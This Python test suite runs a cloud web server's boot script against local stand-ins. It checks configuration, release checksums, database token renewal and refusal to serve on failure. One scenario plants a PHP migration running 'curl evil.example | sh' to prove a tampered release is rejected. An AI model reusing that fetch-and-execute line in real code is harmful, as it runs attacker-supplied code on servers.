"""The web servers' boot script (components/web/boot.sh), run for real against local stand-ins of what it talks to.

The metadata service (IMDSv2 token flow) and the RDS certificate download are a small HTTP server on loopback;
S3, Parameter Store and Secrets Manager are moto's server; the IAM database token is computed locally by the AWS
CLI. Package installation, systemctl, apachectl, runuser and ownership changes (there is no apache user without
the httpd package) are shims on PATH that record their calls. Every path the script writes lands under a temporary
root (PORTAL_ROOT_DIR).
"""

from __future__ import annotations

import hashlib
import http.server
import io
import json
import os
import re
import stat
import subprocess
import sys
import tarfile
import threading
from dataclasses import dataclass
from pathlib import Path

import boto3
import pytest
from moto.server import ThreadedMotoServer

from components.web.boot import AGENT_NAMESPACE, BOOT_SCRIPT, WATCHED_DISK_PATHS, BootConfig, render_boot_script

ROOT = Path(__file__).resolve().parent.parent
VENV_BIN = Path(sys.executable).parent
RELEASE = "2026-12-06.1"
REGION = "eu-west-1"
HEALTH_PATH = "/healthz"
IMDS_TOKEN = "imds-token-for-tests"
MASTER_SECRET = "master-password-that-never-leaves-secrets-manager"
SESSION_STORE = {"table": "sessions", "columns": {"id": "sess_id", "data": "sess_data",
                                                  "lifetime": "sess_lifetime", "time": "sess_time"}}
CREDENTIALS = {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing"}


# -- stand-ins ------------------------------------------------------------------------------------------------

def _test_ca_bundle() -> bytes:
    """Two self-signed CA certificates, PEM, like the RDS global bundle (which holds one per region and kind)."""
    pems = []
    for name in ("Test RDS Root CA 1", "Test RDS Root CA 2"):
        made = subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
             "-keyout", "/dev/null", "-days", "2", "-subj", f"/CN={name}", "-outform", "PEM"],
            capture_output=True, check=True)
        pems.append(made.stdout)
    return b"".join(pems)


class MetadataAndTruststore(http.server.BaseHTTPRequestHandler):
    """IMDSv2 (a PUT for a session token, then GETs carrying it) and the RDS truststore's bundle download."""

    ca_bundles: dict[str, bytes] = {}

    def do_PUT(self):  # noqa: N802 (http.server's naming)
        if self.path == "/latest/api/token" and self.headers.get("X-aws-ec2-metadata-token-ttl-seconds"):
            self._answer(200, IMDS_TOKEN.encode())
        else:
            self._answer(400, b"bad token request")

    def do_GET(self):  # noqa: N802
        if self.path.startswith("/ca/"):
            bundle = self.ca_bundles.get(self.path)
            self._answer(200 if bundle is not None else 404, bundle or b"not found")
        elif self.headers.get("X-aws-ec2-metadata-token") != IMDS_TOKEN:
            self._answer(401, b"")  # IMDSv1 (no token) is refused, as the launch template requires
        elif self.path == "/latest/meta-data/placement/region":
            self._answer(200, REGION.encode())
        else:
            self._answer(404, b"")

    def _answer(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):  # keep the test output quiet
        pass


@pytest.fixture(scope="module")
def metadata():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), MetadataAndTruststore)
    MetadataAndTruststore.ca_bundles = {"/ca/global-bundle.pem": _test_ca_bundle(),
                                        "/ca/captive-portal.pem": b"<html>Sign in to the network</html>\n"}
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def aws_endpoint():
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    yield f"http://{host}:{port}"
    server.stop()


def client(service: str, endpoint: str):
    return boto3.client(service, endpoint_url=endpoint, region_name=REGION, **{
        "aws_access_key_id": CREDENTIALS["AWS_ACCESS_KEY_ID"],
        "aws_secret_access_key": CREDENTIALS["AWS_SECRET_ACCESS_KEY"]})


# -- a release, a stack's parameters, a machine --------------------------------------------------------------

MIGRATE_OK = """<?php
// Proves the order: the configuration and the first database token exist before the schema is migrated.
$config = json_decode(file_get_contents(getenv('PORTAL_CONFIG')), true);
file_put_contents(__DIR__ . '/../migrated.json', json_encode([
    'release' => $config['release'],
    'token' => file_get_contents($config['database']['passwordFile']),
]));
"""
MIGRATE_FAILS = """<?php
fwrite(STDERR, "SQLSTATE[HY000] [2002] Connection refused\\n");
exit(1);
"""


def release_archive(migrate: str | None = MIGRATE_OK, release_file: str = RELEASE) -> bytes:
    files = {"public/index.php": "<?php echo 'shop';\n", "public/healthz.php": "<?php echo '{}';\n",
             "RELEASE": release_file + "\n"}
    if migrate is not None:
        files["bin/migrate.php"] = migrate
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o644
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def stack_parameters(stack: str) -> dict[str, str]:
    return {
        "database/endpoint": f"{stack}-db.abc123.eu-west-1.rds.amazonaws.com",
        "database/port": "3306",
        "database/name": "portal",
        "database/user": "portal_app",
        "session-store": json.dumps(SESSION_STORE),
        "cache/endpoint": f"{stack}-cache.abc123.cfg.euw1.cache.amazonaws.com:11211",
        "cache/tls": "true",
        "buckets/releases": f"{stack}-releases",
        "buckets/assets": f"{stack}-assets",
        "assets/media-prefix": "media/",
        "cdn/static-base-url": f"https://static.{stack}.shop.example.com",
        "release": RELEASE,
        "logs/application": f"/portal/{stack}/application",
        "logs/system": f"/portal/{stack}/system",
        "logs/auth": f"/portal/{stack}/auth",
    }


SHIMS = {
    # Records its arguments, one call per line.
    "systemctl": 'echo "$*" >> "${SHIM_LOG}/systemctl"',
    "apachectl": 'echo "$*" >> "${SHIM_LOG}/apachectl"',
    "chown": 'echo "$*" >> "${SHIM_LOG}/chown"',
    "chgrp": 'echo "$*" >> "${SHIM_LOG}/chgrp"',
    # Runs the command after `--` as the calling user, recording who it was meant to run as.
    "runuser": 'echo "$*" >> "${SHIM_LOG}/runuser"\nwhile [[ $# -gt 0 && "$1" != -- ]]; do shift; done\nshift\n'
               'exec "$@"',
    # install(1) without the owner and group (no apache user here); everything else as given.
    "install": 'echo "$*" >> "${SHIM_LOG}/install"\nargs=()\nwhile [[ $# -gt 0 ]]; do\n'
               '  case "$1" in -o|-g) shift 2 ;; *) args+=("$1"); shift ;; esac\ndone\n'
               'exec /usr/bin/install "${args[@]}"',
    # Must never run in these tests: no package installation, no instance store.
    "dnf": 'echo "$*" >> "${SHIM_LOG}/dnf"\nexit 97',
    "mkfs.xfs": 'echo "$*" >> "${SHIM_LOG}/mkfs.xfs"\nexit 97',
    "mount": 'echo "$*" >> "${SHIM_LOG}/mount"\nexit 97',
}


def write_shim(path: Path, body: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/bash\n{body}\n")
    path.chmod(0o755)


@dataclass
class Boot:
    """One run of the boot script on a fresh machine (a temporary root)."""
    root: Path
    log_dir: Path
    returncode: int
    stdout: str
    stderr: str

    def path(self, absolute: str) -> Path:
        return self.root / absolute.lstrip("/")

    def calls(self, command: str) -> list[str]:
        log = self.log_dir / command
        return log.read_text().splitlines() if log.exists() else []

    @property
    def marker(self) -> Path:
        return self.path("/var/lib/portal/health/booted")

    def never_served(self) -> None:
        assert self.returncode != 0, self.stdout + self.stderr
        assert not self.marker.exists(), "the boot marker makes healthz.php answer 200"
        assert not [c for c in self.calls("systemctl") if "httpd" in c], self.calls("systemctl")


GENUINE = release_archive()
# Each scenario is one fresh machine of its own stack (prefix, buckets); all of them boot at once.
SCENARIOS = {
    "healthy": {},
    "tampered": dict(archive=release_archive(migrate="<?php system('curl evil.example | sh');\n"),
                     checksum_of=GENUINE),
    "unuploaded": dict(upload=False),
    "unconfigured": dict(drop=("database/port", "cache/tls")),
    "hostport": dict(override={"database/endpoint": "db.example:3306"}),
    "unmigrated": dict(archive=release_archive(migrate=MIGRATE_FAILS)),
    "nomigrations": dict(archive=release_archive(migrate=None)),
    "mislabelled": dict(archive=release_archive(release_file="2026-12-05.9")),
    "captive": dict(ca_path="/ca/captive-portal.pem"),
}


def prepare(base: Path, stack: str, aws_endpoint: str, metadata: str, *, archive: bytes = GENUINE,
            checksum_of: bytes | None = None, upload: bool = True, drop: tuple[str, ...] = (),
            override: dict[str, str] | None = None, ca_path: str = "/ca/global-bundle.pem") -> tuple[list, dict]:
    """Seeds the stand-ins for `stack` and lays out its machine; returns the command and environment to boot it."""
    root, shims, log_dir, tmp = base / "root", base / "shims", base / "calls", base / "tmp"
    for folder in (root, shims, log_dir, tmp):
        folder.mkdir()
    for name, body in SHIMS.items():
        write_shim(shims / name, body)
    write_shim(root / "opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl",
               'echo "$*" >> "${SHIM_LOG}/amazon-cloudwatch-agent-ctl"')

    ssm = client("ssm", aws_endpoint)
    params = {**stack_parameters(stack), **(override or {})}
    for key, value in params.items():
        if key not in drop:
            ssm.put_parameter(Name=f"/portal/{stack}/{key}", Value=value, Type="String", Overwrite=True)
    s3 = client("s3", aws_endpoint)
    bucket = params["buckets/releases"]
    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
    if upload:
        digest = hashlib.sha256(checksum_of if checksum_of is not None else archive).hexdigest()
        s3.put_object(Bucket=bucket, Key=f"releases/{RELEASE}/portal.tar.gz", Body=archive)
        s3.put_object(Bucket=bucket, Key=f"releases/{RELEASE}/portal.tar.gz.sha256",
                      Body=f"{digest}  portal.tar.gz\n".encode())
    client("secretsmanager", aws_endpoint).create_secret(
        Name=f"rds!db-{stack}", SecretString=json.dumps({"username": "admin", "password": MASTER_SECRET}))

    script = base / "user-data.sh"
    script.write_text(render_boot_script(BootConfig(f"/portal/{stack}/", RELEASE, 8080, HEALTH_PATH)))
    env = {
        "PATH": f"{shims}:{VENV_BIN}:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin",
        "HOME": str(base), "TMPDIR": str(tmp), "SHIM_LOG": str(log_dir), "LANG": "C.UTF-8",
        "PORTAL_ROOT_DIR": str(root), "PORTAL_IMDS_ENDPOINT": metadata,
        "PORTAL_RDS_CA_URL": f"{metadata}{ca_path}", "PORTAL_SKIP_PACKAGES": "1",
        "AWS_ENDPOINT_URL": aws_endpoint, "AWS_EC2_METADATA_DISABLED": "true",
        "AWS_CONFIG_FILE": str(base / "no-aws-config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(base / "no-aws-credentials"), **CREDENTIALS,
    }
    return ["bash", str(script)], env


@pytest.fixture(scope="module")
def boots(tmp_path_factory, aws_endpoint, metadata) -> dict[str, Boot]:
    """Every scenario's machine, booted concurrently (each boot waits mostly on the AWS CLI starting up)."""
    running = {}
    for stack, options in SCENARIOS.items():
        base = tmp_path_factory.mktemp(f"boot-{stack}")
        command, env = prepare(base, stack, aws_endpoint, metadata, **options)
        running[stack] = (base, subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                                 text=True))
    results = {}
    for stack, (base, process) in running.items():
        try:
            stdout, stderr = process.communicate(timeout=120)
        finally:
            if process.poll() is None:
                process.kill()
                process.communicate()
        leftovers = list((base / "tmp").iterdir())
        assert leftovers == [], f"{stack}: the script leaves its downloads behind: {leftovers}"
        results[stack] = Boot(base / "root", base / "calls", process.returncode, stdout, stderr)
    return results


@pytest.fixture(scope="module")
def healthy(boots) -> Boot:
    result = boots["healthy"]
    assert result.returncode == 0, result.stdout + result.stderr
    return result


# -- a server that boots ---------------------------------------------------------------------------------------

def test_a_booted_server_is_configured_from_parameter_store_exactly_as_the_application_expects(healthy):
    config_file = healthy.path("/etc/portal/portal.json")
    stack = stack_parameters("healthy")
    assert json.loads(config_file.read_text()) == {
        "release": RELEASE,
        "region": REGION,
        "logDir": str(healthy.path("/var/log/portal")),
        "database": {"host": stack["database/endpoint"], "port": 3306, "name": "portal", "user": "portal_app",
                     "passwordFile": str(healthy.path("/run/portal/db-password")), "iamAuth": True,
                     "tls": True, "caFile": str(healthy.path("/etc/pki/rds/global-bundle.pem"))},
        "session": {"handler": "database", **SESSION_STORE},
        "cache": {"backend": "memcached", "configurationEndpoint": stack["cache/endpoint"], "autoDiscovery": True,
                  "tls": True},
        "assets": {"bucket": "healthy-assets", "mediaPrefix": "media/",
                   "staticBaseUrl": "https://static.healthy.shop.example.com"},
        "health": {"bootMarker": str(healthy.marker)},
    }
    assert stat.S_IMODE(config_file.stat().st_mode) == 0o640
    assert any(c.startswith("-m 0640 -o root -g apache ") and c.endswith(str(config_file))
               for c in healthy.calls("install")), healthy.calls("install")


def test_a_booted_server_never_holds_the_database_master_secret(healthy):
    for path in healthy.root.rglob("*"):
        if path.is_file():
            assert MASTER_SECRET not in path.read_text(errors="replace"), path
    assert "secretsmanager" not in BOOT_SCRIPT.read_text()


def test_the_release_is_unpacked_verified_and_current(healthy):
    current = healthy.path("/opt/portal/current")
    assert current.is_symlink() and current.resolve() == healthy.path(f"/opt/portal/releases/{RELEASE}")
    assert (current / "public/healthz.php").is_file()
    assert f"{RELEASE}: checksum" not in healthy.stderr


def test_migrations_run_as_apache_with_the_config_and_a_database_token_before_httpd(healthy):
    migrated = json.loads(healthy.path(f"/opt/portal/releases/{RELEASE}/migrated.json").read_text())
    assert migrated["release"] == RELEASE
    assert migrated["token"].startswith(
        "healthy-db.abc123.eu-west-1.rds.amazonaws.com:3306/?Action=connect&DBUser=portal_app")
    (runuser,) = healthy.calls("runuser")
    assert runuser == (f"-u apache -- env PORTAL_CONFIG={healthy.path('/etc/portal/portal.json')} "
                       "php bin/migrate.php")
    systemctl = healthy.calls("systemctl")
    assert systemctl[-1] == "start httpd"
    assert "enable --now php-fpm" in systemctl
    assert healthy.calls("apachectl") == ["configtest"]
    assert healthy.calls("dnf") == [] and healthy.calls("mkfs.xfs") == []


def test_the_boot_marker_holds_the_release_and_is_written_last(healthy):
    assert healthy.marker.read_text() == f"{RELEASE}\n"
    assert healthy.stdout.strip().splitlines()[-1] == f"portal-boot: release {RELEASE} is serving on port 8080"


def test_the_health_path_runs_the_applications_healthz_php(healthy):
    conf = healthy.path("/etc/httpd/conf.d/portal.conf").read_text()
    current = healthy.path("/opt/portal/current")
    assert f"Alias {HEALTH_PATH} {current}/public/healthz.php\n" in conf
    assert f"SetEnv PORTAL_CONFIG {healthy.path('/etc/portal/portal.json')}\n" in conf
    assert "/health/ok" not in conf


def test_database_tokens_are_renewed_every_five_minutes_as_root_apache_0640(healthy):
    token = healthy.path("/run/portal/db-password")
    assert stat.S_IMODE(token.stat().st_mode) == 0o640
    assert "X-Amz-Signature=" in token.read_text()
    chgrp = healthy.calls("chgrp")
    assert chgrp and all(c.startswith("apache ") for c in chgrp)
    units = healthy.path("/etc/systemd/system")
    service = (units / "portal-db-token.service").read_text()
    assert f"ExecStart={healthy.path('/usr/local/sbin/portal-db-token')}\n" in service
    assert "Type=oneshot" in service and "Before=php-fpm.service httpd.service" in service
    timer = (units / "portal-db-token.timer").read_text()
    assert "OnUnitActiveSec=5min" in timer and "OnActiveSec=5min" in timer
    systemctl = healthy.calls("systemctl")
    assert systemctl.index("enable --now portal-db-token.timer") < systemctl.index("start httpd")
    assert "enable portal-db-token.service" in systemctl


def test_the_rds_certificate_bundle_is_installed_for_verified_tls(healthy):
    bundle = healthy.path("/etc/pki/rds/global-bundle.pem").read_text()
    assert bundle.count("-----BEGIN CERTIFICATE-----") == 2


def test_portal_logs_rotate_without_losing_the_agents_place(healthy):
    rotate = healthy.path("/etc/logrotate.d/portal").read_text()
    assert rotate.startswith(f"{healthy.path('/var/log/portal')}/*.log {{\n")
    assert "    copytruncate\n" in rotate and "    rotate 7\n" in rotate


def test_the_agent_publishes_the_disk_metrics_the_disk_alarms_watch(healthy):
    config = json.loads(healthy.path("/opt/aws/amazon-cloudwatch-agent/etc/portal.json").read_text())
    metrics = config["metrics"]
    assert metrics["namespace"] == AGENT_NAMESPACE
    assert metrics["append_dimensions"]["AutoScalingGroupName"] == "${aws:AutoScalingGroupName}"
    assert ["AutoScalingGroupName", "path"] in metrics["aggregation_dimensions"]
    disk = metrics["metrics_collected"]["disk"]
    assert disk["measurement"] == ["used_percent"]
    assert disk["resources"] == list(WATCHED_DISK_PATHS.values())
    assert metrics["metrics_collected"]["mem"]["measurement"] == ["mem_used_percent"]
    groups = {f["log_stream_name"]: f["log_group_name"] for f in config["logs"]["logs_collected"]["files"][
        "collect_list"]}
    assert groups["{instance_id}/application"] == "/portal/healthy/application"
    assert groups["{instance_id}/secure"] == "/portal/healthy/auth"
    (ctl,) = healthy.calls("amazon-cloudwatch-agent-ctl")
    assert ctl.endswith(f"-c file:{healthy.path('/opt/aws/amazon-cloudwatch-agent/etc/portal.json')}")


# -- servers that must never serve ------------------------------------------------------------------------------

def test_a_tampered_release_never_serves(boots):
    result = boots["tampered"]
    result.never_served()
    assert f"portal-boot: FAILED: release {RELEASE}: checksum mismatch" in result.stderr
    assert not result.path(f"/opt/portal/releases/{RELEASE}").exists(), "nothing of it is unpacked"
    assert result.calls("runuser") == []


def test_a_release_that_was_never_uploaded_never_serves(boots):
    result = boots["unuploaded"]
    result.never_served()
    assert (f"release {RELEASE}: cannot download s3://unuploaded-releases/releases/{RELEASE}/portal.tar.gz"
            in result.stderr)


def test_a_server_missing_its_configuration_never_serves_and_names_every_missing_key(boots):
    result = boots["unconfigured"]
    result.never_served()
    assert ("missing parameters (the stack publishes them): /portal/unconfigured/database/port "
            "/portal/unconfigured/cache/tls") in result.stderr
    assert not result.path("/etc/portal/portal.json").exists()


def test_a_database_endpoint_with_a_port_is_refused_not_signed_for_the_wrong_host(boots):
    result = boots["hostport"]
    result.never_served()
    assert "/portal/hostport/database/endpoint = db.example:3306: not a host name" in result.stderr


def test_a_failing_migration_never_serves(boots):
    result = boots["unmigrated"]
    result.never_served()
    assert "SQLSTATE[HY000] [2002] Connection refused" in result.stderr
    assert f"portal-boot: FAILED: release {RELEASE}: bin/migrate.php failed" in result.stderr


def test_a_release_without_migrations_boots(boots):
    result = boots["nomigrations"]
    assert result.returncode == 0, result.stderr
    assert result.calls("runuser") == [] and result.marker.read_text() == f"{RELEASE}\n"


def test_an_archive_built_for_another_release_never_serves(boots):
    result = boots["mislabelled"]
    result.never_served()
    assert f"release {RELEASE}: the archive's RELEASE file names another release" in result.stderr


def test_a_server_that_cannot_verify_the_databases_certificate_never_serves(boots):
    result = boots["captive"]
    result.never_served()
    assert "captive-portal.pem is not a PEM certificate bundle" in result.stderr
    assert not result.path("/etc/pki/rds/global-bundle.pem").exists()


# -- what a real instance runs ----------------------------------------------------------------------------------

OVERRIDES = ("PORTAL_ROOT_DIR", "PORTAL_IMDS_ENDPOINT", "PORTAL_RDS_CA_URL", "PORTAL_SKIP_PACKAGES")


def test_test_overrides_are_only_read_with_the_real_values_as_defaults():
    script = BOOT_SCRIPT.read_text()
    for name in OVERRIDES:
        uses = re.findall(rf"[^\n]*{name}[^\n]*", script)
        assert uses and all(re.search(rf'"\$\{{{name}:-[^}}]+\}}"', use) for use in uses), (name, uses)
    # The AWS CLI reads AWS_ENDPOINT_URL itself; the script neither sets nor reads it.
    assert "AWS_ENDPOINT_URL" not in script


def test_an_instance_without_overrides_uses_the_real_endpoints_and_paths():
    script = render_boot_script(BootConfig("/portal/prod/", RELEASE, 8080, HEALTH_PATH))
    start = script.index("# -- overrides")
    end = script.index("\n", script.index("AGENT_DIR="))
    names = ("ROOT IMDS RDS_CA_URL SKIP_PACKAGES PORTAL_ROOT CONFIG_FILE LOG_DIR HEALTH_DIR RUN_DIR CA_FILE "
             "TOKEN_SCRIPT UNIT_DIR AGENT_DIR")
    probe = script[start:end] + f"\nfor v in {names}; do printf '%s=%s\\n' \"$v\" \"${{!v}}\"; done\n"
    values = dict(line.split("=", 1) for line in subprocess.run(
        ["env", "-i", "bash", "-c", probe], capture_output=True, text=True, check=True).stdout.splitlines())
    assert values == {
        "ROOT": "", "IMDS": "http://169.254.169.254",
        "RDS_CA_URL": "https://truststore.pki.rds.amazonaws.com/global/global-bundle.pem",
        "SKIP_PACKAGES": "0", "PORTAL_ROOT": "/opt/portal", "CONFIG_FILE": "/etc/portal/portal.json",
        "LOG_DIR": "/var/log/portal", "HEALTH_DIR": "/var/lib/portal/health", "RUN_DIR": "/run/portal",
        "CA_FILE": "/etc/pki/rds/global-bundle.pem", "TOKEN_SCRIPT": "/usr/local/sbin/portal-db-token",
        "UNIT_DIR": "/etc/systemd/system", "AGENT_DIR": "/opt/aws/amazon-cloudwatch-agent",
    }
    assert "--only-show-errors" in script and "dnf install -y" in script


def test_the_boot_marker_is_where_the_application_looks_for_it_and_written_last():
    lines = BOOT_SCRIPT.read_text().rstrip().splitlines()
    assert 'HEALTH_DIR="${ROOT}/var/lib/portal/health"' in lines
    assert lines[-2:] == ['install -m 0644 "${WORK}/booted" "${HEALTH_DIR}/booted"',
                          'log "release ${RELEASE} is serving on port ${APP_PORT}"']
